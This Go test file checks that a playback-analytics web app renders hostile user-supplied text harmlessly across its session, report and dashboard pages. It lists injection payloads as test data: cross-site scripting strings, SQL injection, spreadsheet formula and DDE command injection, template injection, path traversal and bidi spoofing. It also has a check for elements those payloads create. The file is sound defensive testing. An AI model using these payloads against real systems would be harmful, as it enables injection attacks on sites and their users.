package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/playmeter/playmeter/schemas"
)

// hostileTexts are what viewers, and who gives titles, may write in the hope that it does something.
var hostileTexts = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror="document.title='pwned'">`,
	`' onfocus='alert(1)' autofocus x='`,
	`</title></script></textarea><svg onload=alert(1)>`,
	`javascript:alert(1)//`,
	`{{.Data}} ${alert(1)} <%= 1 %>`,
	`=HYPERLINK("http://example.com/?"&A1,"see")`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`'; DROP TABLE sessions; --`,
	`x' OR '1'='1`,
	"\u202eevil\u202c moc.elpmaxe \u2067right to left",
	"עברית ועוד العربية",
	"👩‍👩‍👧‍👦 🏴‍☠️ Z̷a̶l̴g̵o̸",
	`%s%n%00..\..\%2e%2e/ & &amp; &lt;b&gt; #hash ?q=1&tenant=x +plus`,
	strings.Repeat("long ", 200) + "end",
	strings.Repeat("W", 1000),
}

// hostileUsage is a usage file and a catalog in which every text is one of them.
func hostileUsage(t *testing.T, month schemas.Period) (usage, catalog []byte) {
	t.Helper()
	var events, objects bytes.Buffer
	at := month.Start().Add(25 * time.Hour)
	for i, text := range hostileTexts {
		object := fmt.Sprintf("iq__hostile%02d", i)
		writeLine(t, &objects, map[string]any{"object_id": object, "title": text, "object_name": text, "ip_title_id": text, "storage_bytes": 5})
		for segment := range 3 {
			writeLine(t, &events, map[string]any{
				"node_id": "evil-" + text, "event_id": fmt.Sprint(i, "-", segment), "time": at.Add(time.Duration(segment*2) * time.Second).Format(time.RFC3339Nano),
				"tenant_id": hostileTenant, "kind": "playout", "object_id": object, "bytes": 1000 + i, "duration_us": 2_000_000, "track": "muxed", "width": 1280, "height": 720,
				"session_id": fmt.Sprintf("session %d %s", i, text), "segment": segment, "playout_format": "hls-clear", "protocol": text,
				"client_ip": fmt.Sprintf("192.0.2.%d", i), "client_country": "DE", "client_region": text, "client_city": text,
				"user_agent": text, "referrer": text, "user_id": text, "node_host": text, "node_ip": "198.51.100.1", "node_region": text,
			})
		}
	}
	return events.Bytes(), objects.Bytes()
}

func writeLine(t *testing.T, to *bytes.Buffer, line any) {
	t.Helper()
	e := json.NewEncoder(to)
	e.SetEscapeHTML(false)
	if err := e.Encode(line); err != nil {
		t.Fatal(err)
	}
}

// testHostile looks for hostile texts on every page: they are texts.
func testHostile(t *testing.T, w *pagesWorld) {
	b := w.tabAs(t, roleHostile)
	for _, tt := range []struct {
		name, path string
		columns    map[string]string // of the list, with the database's
	}{
		{"all playback", "/sessions", map[string]string{"stream": "stream", "protocol": "protocol", "hostname": "hostname"}},
		{"by streams", "/sessions/streams", map[string]string{"stream": "stream"}},
		{"by servers", "/sessions/servers", map[string]string{"hostname": "hostname"}},
		{"by users", "/sessions/users", map[string]string{"user": "user_name", "agent": "user_agent", "referrer": "referrer"}},
		{"unique sessions", "/sessions/unique", map[string]string{"stream": "stream", "protocol": "protocol", "agent": "user_agent", "referrer": "referrer"}},
	} {
		t.Run(tt.name+" shows them as texts, whole where they are pointed at", func(t *testing.T) {
			b.open(w.inMonth(tt.path))
			b.unharmed()
			for column, name := range tt.columns {
				shown := make(map[string]bool)
				for _, text := range js[[]string](b, cellTitles, column) {
					shown[text] = true
				}
				for _, text := range w.texts(t, "SELECT DISTINCT %s FROM sessions WHERE tenant = %s", name, quoted(hostileTenant)) {
					if !shown[text] && text != "" {
						t.Errorf("column %s does not show %q", column, text)
					}
				}
			}
			b.size(390, 844)
			b.noOverflow()
			b.size(1440, 900)
		})
	}
	t.Run("the dashboard does, too", func(t *testing.T) {
		b.open("/?month=" + w.month.String())
		b.until(drawn)
		b.unharmed()
		b.size(390, 844)
		b.noOverflow()
		b.size(1440, 900)
	})
	t.Run("each can be filtered by", func(t *testing.T) {
		for i, text := range hostileTexts {
			for field, column := range map[string]string{"agent": "user_agent", "user": "user_name", "stream": "stream"} {
				if len(text) > 1000 || strings.Contains(text, "*") && field == "stream" {
					continue
				}
				rows := w.one(t, "SELECT count(*) FROM sessions WHERE tenant = %s AND %s = %s", quoted(hostileTenant), column, quoted(strings.TrimSpace(text)))
				if rows != "1" {
					t.Errorf("text %d: %s sessions have the %s %q", i, rows, column, text)
				}
				b.open(w.inMonth("/sessions", field, text))
				b.unharmed()
				if n := b.totals()["Sessions"]; n != rows {
					t.Errorf("%s %q: %s sessions, want %s", field, text, n, rows)
				}
				if got := js[string](b, `document.querySelector(%q).value`, "#filter-"+field); got != strings.TrimSpace(text) {
					t.Errorf("the form has %q, want %q", got, text)
				}
			}
		}
	})
	t.Run("other pages show the tenant's and the token's name as texts", func(t *testing.T) {
		for _, path := range []string{"/", "/reports", "/reports/" + hostileTenant + "/" + w.month.String()} {
			b.open(path)
			b.unharmed()
			if !strings.Contains(js[string](b, `document.querySelector(".caller-name").textContent`), `onerror=alert(1)>`) {
				t.Errorf("%s does not name the token", path)
			}
		}
		admin := w.tabAs(t, roleAdmin)
		for _, path := range []string{"/", "/sessions", "/reports", "/runs", "/reports/" + hostileTenant + "/" + w.month.String()} {
			admin.open(path)
			admin.unharmed()
			if !strings.Contains(js[string](admin, `document.body.textContent`), hostileName) {
				t.Errorf("%s does not name the tenant", path)
			}
		}
	})
}

// cellTitles are the whole texts of a column's cells. Its head leads to where the list is sorted by it.
const cellTitles = `(() => {
	const heads = [...document.querySelectorAll("#sessions-table thead th")];
	const at = heads.findIndex((th) => th.querySelector("a").id === "sessions-table-by-%s");
	return [...document.querySelectorAll("#sessions-table tbody tr")].map((tr) => tr.cells[at].querySelector(".clip")?.textContent || "");
})()`

// unharmed wants a page to have no element that a text has made, and no title that a text has cut short.
func (b *tab) unharmed() {
	b.Helper()
	if n := js[int](b, `document.querySelectorAll("main img, main iframe, main object, main b, main svg [onload], #pwned, [onerror], [onload], [onfocus]").length`); n > 0 {
		b.Errorf("%s: texts have made %d elements", b.where(), n)
	}
	if scripts := js[[]string](b, `[...document.scripts].filter((s) => !(s.src.startsWith(location.origin + "/assets/") || s.type === "application/json")).map((s) => s.outerHTML)`); len(scripts) > 0 {
		b.Errorf("%s: texts have made scripts: %q", b.where(), scripts)
	}
	if title := js[string](b, `document.title`); !strings.HasSuffix(title, "Playmeter") {
		b.Errorf("%s has the title %q", b.where(), title)
	}
	if n := js[int](b, `[...document.querySelectorAll('main a[href]')].filter((a) => a.origin !== location.origin).length`); n > 0 {
		b.Errorf("%s: %d links lead elsewhere", b.where(), n)
	}
}

// totals are the sums above a list, by their names.
func (b *tab) totals() map[string]string {
	b.Helper()
	return js[map[string]string](b, `Object.fromEntries([...document.querySelectorAll(".totals > div")].map((d) =>
		[d.querySelector("dt").textContent, d.querySelector(".n").title || d.querySelector(".n").textContent]))`)
}
